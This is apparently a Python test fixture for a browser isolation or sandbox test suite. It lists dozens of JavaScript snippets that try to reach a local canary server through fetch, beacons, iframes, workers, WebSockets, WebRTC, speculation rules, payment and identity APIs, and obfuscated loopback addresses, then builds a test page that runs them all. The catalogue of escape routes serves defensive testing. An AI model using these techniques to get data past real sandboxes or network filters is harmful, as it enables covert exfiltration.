"""Ways out that a page's scripts may try; each is aimed at a nest of its own in the canary."""

from collections.abc import Callable

from tests.fakes.canary import Canary

LEAK = "http://127.0.0.1:{port}/{name}"
SECURE = "https://127.0.0.1:{port}/{name}"
NAMED = "http://leak.localhost:{port}/{name}"

BY_PAGE = {
    "fetch": f"fetch('{LEAK}').then(r => r.text()).then(show)",
    "fetch by name": f"fetch('{NAMED}').then(r => r.text()).then(show)",
    "fetch to localhost": "fetch('http://localhost:{port}/').then(r => r.text()).then(show)",
    "fetch to IPv6": "fetch('http://[::1]:{port}/').then(r => r.text()).then(show)",
    "fetch that outlives the page": f"fetch('{LEAK}', {{keepalive: true}})",
    "fetch without CORS": f"fetch('{LEAK}', {{mode: 'no-cors'}})",
    "xhr": f"xhr('{LEAK}')",
    "beacon": f"navigator.sendBeacon('{LEAK}', 'data')",
    "image": f"new Image().src = '{LEAK}'",
    "script": f"add('script', {{src: '{LEAK}'}})",
    "stylesheet": f"add('link', {{rel: 'stylesheet', href: '{LEAK}'}})",
    "style import": f"add('style', {{textContent: '@import url({LEAK})'}})",
    "font": f"new FontFace('f', 'url({LEAK})').load().catch(() => 0)",
    "video": f"add('video', {{src: '{LEAK}', preload: 'auto'}})",
    "object": f"add('object', {{data: '{LEAK}', type: 'text/html'}})",
    "embed": f"add('embed', {{src: '{LEAK}'}})",
    "iframe": f"add('iframe', {{src: '{LEAK}'}})",
    "srcdoc": f"add('iframe', {{srcdoc: `<img src={LEAK}><script>fetch('{LEAK}')</script>`}})",
    "data iframe": f"add('iframe', {{src: `data:text/html,<script>fetch('{LEAK}')</script>`}})",
    "blob iframe": f"add('iframe', {{src: blob(`<script>fetch('{LEAK}')</script>`, 'text/html')}})",
    "sandboxed iframe": f"add('iframe', {{sandbox: 'allow-scripts', srcdoc: `<img src='{LEAK}'>`}})",
    "form get": f"submit('{LEAK}', 'GET')",
    "form post": f"submit('{LEAK}', 'POST')",
    "ping": f"a = add('a', {{href: '#', ping: '{LEAK}'}}); a.click()",
    "window.open": f"window.open('{LEAK}')",
    "event source": f"new EventSource('{LEAK}').onmessage = e => show(e.data)",
    "worker": f"work(`fetch('{LEAK}').then(r => r.text()).then(postMessage)`)",
    "worker import": f"new Worker(blob(`importScripts('{LEAK}')`))",
    "shared worker": f"new SharedWorker(blob(`fetch('{LEAK}')`))",
    "websocket": "new WebSocket('ws://127.0.0.1:{port}/').onmessage = e => show(e.data)",
    "websocket by name": "new WebSocket('ws://leak.localhost:{port}/')",
    "websocket of a worker": "new Worker(blob(`new WebSocket('ws://127.0.0.1:{port}/')`))",
    "prefetch": f"add('link', {{rel: 'prefetch', href: '{LEAK}'}})",
    "preload": f"l = add('link', {{rel: 'preload', href: '{LEAK}'}}); l.as = 'script'",
    "module preload": f"add('link', {{rel: 'modulepreload', href: '{LEAK}'}})",
    "module import": f"import('{LEAK}').catch(() => 0)",
    "preconnect": "add('link', {rel: 'preconnect', href: 'http://127.0.0.1:{port}'})",
    "preconnect by name": "add('link', {rel: 'preconnect', href: 'http://leak.localhost:{port}'})",
    "dns prefetch": "add('link', {rel: 'dns-prefetch', href: 'http://leak.localhost:{port}'})",
    "icon": f"add('link', {{rel: 'icon', href: '{LEAK}'}})",
    "manifest": f"add('link', {{rel: 'manifest', href: '{LEAK}'}})",
    "speculative prefetch": f"speculate('prefetch', '{LEAK}')",
    "speculative prerender": f"speculate('prerender', '{LEAK}')",
    "stun": "call('stun:127.0.0.1:{port}')",
    "turn over udp": "call('turn:127.0.0.1:{port}')",
    "turn over tcp": "call('turn:127.0.0.1:{port}?transport=tcp')",
    "redirected fetch": "fetch('/to?port={port}').then(r => r.text()).then(show)",
    "redirected iframe": "add('iframe', {src: '/to?port={port}'})",
    "redirected script": "add('script', {src: '/to?port={port}'})",
    "svg image": f"add('div', {{innerHTML: `<svg><image href='{LEAK}'/></svg>`}})",
    "fetch to an address in hexadecimal": "fetch('http://0x7f.1:{port}/')",
    "fetch to an address in one number": "fetch('http://2130706433:{port}/')",
    "fetch to an address in full width": "fetch('http://\uff11\uff12\uff17.0.0.1:{port}/')",
    "fetch to a mapped address": "fetch('http://[::ffff:127.0.0.1]:{port}/')",
    "fetch to the unspecified address": "fetch('http://0:{port}/')",
    "fetch to an address with a dot": "fetch('http://127.0.0.1.:{port}/')",
    "fetch to localhost with a dot": "fetch('http://localhost.:{port}/')",
    "script with a user name": "add('script', {src: 'http://u:p@127.0.0.1:{port}/'})",
    "websocket to an address in hexadecimal": "new WebSocket('ws://0x7f.1:{port}/')",
    "websocket to the unspecified address": "new WebSocket('ws://0:{port}/')",
    "websocket to localhost": "new WebSocket('ws://localhost.:{port}/')",
    "websocket of a shared worker": "new SharedWorker(blob(`new WebSocket('ws://127.0.0.1:{port}/')`))",
    "event source of a worker": f"work(`new EventSource('{LEAK}')`)",
    "module worker": f"new Worker(blob(`import '{LEAK}'`), {{type: 'module'}})",
    "import map": (
        f"add('script', {{type: 'importmap', textContent: JSON.stringify({{imports: {{m: '{LEAK}'}}}})}});"
        "import('m').catch(() => 0)"
    ),
    "webassembly": f"WebAssembly.compileStreaming(fetch('{LEAK}')).catch(() => 0)",
    "style image": f"document.body.style.backgroundImage = 'url({LEAK})'",
    "svg use": f"add('div', {{innerHTML: `<svg><use href='{LEAK}#a'/></svg>`}})",
    "svg filter": f"add('div', {{innerHTML: `<svg><filter><feImage href='{LEAK}'/></filter></svg>`}})",
    "input image": f"add('input', {{type: 'image', src: '{LEAK}'}})",
    "poster": f"add('video', {{poster: '{LEAK}'}})",
    "text track": (
        f"v = add('video', {{}}); t = document.createElement('track'); t.src = '{LEAK}';"
        " t.default = true; v.append(t); t.track.mode = 'showing'"
    ),
    "xslt": (
        f"add('iframe', {{src: blob(`<?xml-stylesheet type='text/xsl' href='{LEAK}'?>"
        f"<!DOCTYPE a SYSTEM '{LEAK}'><a/>`, 'text/xml')}})"
    ),
    "link in a new window": f"add('a', {{href: '{LEAK}', target: '_blank', rel: 'noopener'}}).click()",
    "form in a new window": f"add('form', {{action: '{LEAK}', target: '_blank'}}).submit()",
    "attribution": f"add('img', {{attributionSrc: '{LEAK}'}})",
    "reports": "add('iframe', {src: '/inviting?port={port}'})",
    "candidate of a peer": "meet('127.0.0.1', {port})",
    "candidate of a peer by name": "meet('leak.local', {port})",
}
"""From a page over plain HTTP; `show` puts what came back into the page."""

BY_SECURE_PAGE = {
    "secure fetch": "fetch('https://127.0.0.1:{port}/').then(r => r.text()).then(show)",
    "secure websocket": "new WebSocket('wss://127.0.0.1:{port}/')",
    "websocket stream": "new WebSocketStream('wss://127.0.0.1:{port}/')",
    "service worker": "navigator.serviceWorker.register('/worker.js?port={port}')",
    "web transport": "new WebTransport('https://127.0.0.1:{port}/').ready.catch(() => 0)",
    "web transport by name": "new WebTransport('https://leak.localhost:{port}/').ready.catch(() => 0)",
    "secure preconnect": "add('link', {rel: 'preconnect', href: 'https://127.0.0.1:{port}'})",
    "secure speculative prefetch": "speculate('prefetch', 'https://127.0.0.1:{port}/')",
    "audio worklet": "new AudioContext().audioWorklet.addModule('https://127.0.0.1:{port}/').catch(() => 0)",
    "secure stun": "call('stun:127.0.0.1:{port}')",
    "secure turn": "call('turns:127.0.0.1:{port}?transport=tcp')",
    "secure reports": "add('iframe', {src: '/inviting?port={port}'})",
    "identity provider": f"ask({{identity: {{providers: [{{configURL: '{SECURE}', clientId: 'c'}}]}}}})",
    "related origins": (
        "ask({publicKey: {challenge: new Uint8Array(16), rpId: 'leak.localhost', timeout: 1000}})"
    ),
    "paint worklet": f"CSS.paintWorklet.addModule('{SECURE}').catch(() => 0)",
    "shared storage": f"window.sharedStorage?.worklet.addModule('{SECURE}').catch(() => 0)",
    "private token": (
        f"fetch('{SECURE}', {{privateToken: {{version: 1, operation: 'token-request'}}}}).catch(() => 0)"
    ),
    "later fetch": f"window.fetchLater?.('{SECURE}', {{activateAfter: 0}})",
    "interest group": (
        "navigator.joinAdInterestGroup?.({owner: location.origin, name: 'n',"
        f" updateURL: '{SECURE}', biddingLogicURL: '{SECURE}', lifetimeMs: 9e5}}).catch(() => 0)"
    ),
    "payment": (
        f"new PaymentRequest([{{supportedMethods: '{SECURE}'}}],"
        " {total: {label: 'l', amount: {currency: 'JPY', value: '1'}}}).canMakePayment().catch(() => 0)"
    ),
    "presentation": f"new PresentationRequest(['{SECURE}']).getAvailability().catch(() => 0)",
    "background fetch": (
        f"navigator.serviceWorker.ready.then(r => r.backgroundFetch.fetch('b', ['{SECURE}'])).catch(() => 0)"
    ),
    "loopback over http": "fetch('http://127.0.0.1:{port}/').then(r => r.text()).then(show)",
}
"""From a page over TLS, which may use what browsers keep from others."""

TOOLS = """
const show = text => document.body.append(text);
const add = (name, properties) => {
  const element = Object.assign(document.createElement(name), properties);
  document.body.append(element);
  return element;
};
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], {type}));
const xhr = url => {
  const request = new XMLHttpRequest();
  request.open('GET', url);
  request.onload = () => show(request.responseText);
  request.send();
};
const work = code => { new Worker(blob(code)).onmessage = event => show(event.data); };
const submit = (action, method) => {
  const frame = add('iframe', {name: 'f' + Math.random()});
  add('form', {action, method, target: frame.name, innerHTML: '<input name=a value=b>'}).submit();
};
const speculate = (kind, url) =>
  add('script', {type: 'speculationrules', textContent: JSON.stringify(
    {[kind]: [{source: 'list', urls: [url], eagerness: 'immediate'}]})});
const ask = options => navigator.credentials.get(options).catch(() => 0);
const meet = async (host, port) => {
  const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
  one.createDataChannel('d');
  await one.setLocalDescription(await one.createOffer());
  await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  await one.setRemoteDescription(other.localDescription);
  for (const way of ['udp', 'tcp'])
    await one.addIceCandidate({sdpMid: '0', candidate:
      `candidate:1 1 ${way} 2122260223 ${host} ${port} typ host ${way === 'tcp' ? 'tcptype passive' : ''}`});
};
const call = url => {
  const peer = new RTCPeerConnection({iceServers: [{urls: url, username: 'u', credential: 'c'}]});
  peer.createDataChannel('d');
  peer.createOffer().then(offer => peer.setLocalDescription(offer));
};
"""


def page_of(attempts: dict[str, str], port_of: Callable[[str], int]) -> str:
    """A page that makes every attempt, and says at its end that it has."""
    lines = []
    for number, (name, code) in enumerate(attempts.items()):
        aimed = code.replace("{port}", str(port_of(name))).replace("{name}", name.replace(" ", "-"))
        aimed = aimed.replace("</script>", "<\\/script>")
        lines.append(f"try {{ {aimed} }} catch (error) {{ failed.push({number} + ': ' + error) }}")
    body = "\n".join(lines)
    return (
        f"<!doctype html><title>escapes</title><body><main><p>before</p></main><script>{TOOLS}"
        f"const failed = [];\n{body}\n"
        "document.querySelector('main').append(`tried ${failed.join(' | ') || 'everything'}`)</script>"
    )


def nests(canary: Canary, attempts: dict[str, str]) -> dict[str, int]:
    return {name: canary.nest(name) for name in attempts}
